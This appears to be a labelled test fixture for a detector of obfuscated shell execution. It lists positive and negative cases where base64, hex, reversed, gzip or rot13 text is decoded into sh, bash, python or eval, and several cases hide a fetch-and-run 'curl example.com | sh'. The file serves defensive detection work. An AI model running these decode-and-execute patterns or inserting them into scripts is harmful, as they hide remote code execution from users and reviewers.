#@ pos base64 -d piped into sh
echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20veCB8IHNo | base64 -d | sh
#@ pos base64 --decode piped into bash through sudo
printf '%s' "$PAYLOAD" | base64 --decode | sudo bash
#@ pos a file decoded into python
base64 -d payload.b64 | python3
#@ pos xxd -r -p piped into sh
echo 6375726c | xxd -r -p | sh
#@ pos decompressed into bash
echo "$BLOB" | base64 -d | gunzip | bash -s
#@ pos reversed text into sh
echo 'hs | x/moc.elpmaxe lruc' | rev | sh
#@ pos eval of a decoded command substitution
eval "$(echo aWQ= | base64 -d)"
#@ pos eval of a variable holding decoded text
p=$(base64 -d <<< aWQ=)
eval "$p"
#@ pos bash -c with decoded code
bash -c "$(echo aWQ= | base64 --decode)"
#@ pos python3 -c with decoded code
python3 -c "$(base64 -d <<< cHJpbnQoMSk=)"
#@ pos process substitution of a decoder
bash <(echo aWQ= | base64 -d)
#@ pos here-string of decoded text
sh <<< "$(openssl enc -d -base64 -in p.txt)"
#@ pos the decoded text is the command line
$(echo aWQ= | base64 -d)
#@ pos decoder name hidden in a variable
d=base64
echo aWQ= | $d -d | sh
#@ neg decoding to a file
echo aGVsbG8= | base64 -d > hello.txt
#@ neg decoding into a data tool
base64 -d data.b64 | jq .
#@ neg decoded text piped into a script that reads data
base64 -d data.b64 | python3 ./parse.py
#@ neg the pipeline written in a string
echo "echo aWQ= | base64 -d | sh"
#@ neg encoding, not running
tar cz dir | base64 > dir.b64
#@ pos CR is part of a word to bash: the # is not a comment
echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
#@ pos nor after VT or FF
echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
#@ neg a comment after a blank, CR inside it
echo a # $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
#@ pos rot13 through tr into eval
eval "$(echo 'vq; fu -v' | tr 'A-Za-z' 'N-ZA-Mn-za-m')"
#@ pos base64 -d of a here-document piped into sh
base64 -d <<'B' | sh
aWQK
B
#@ neg base64 -d of a here-document into a file
base64 -d <<'B' > out.bin
aWQK
B
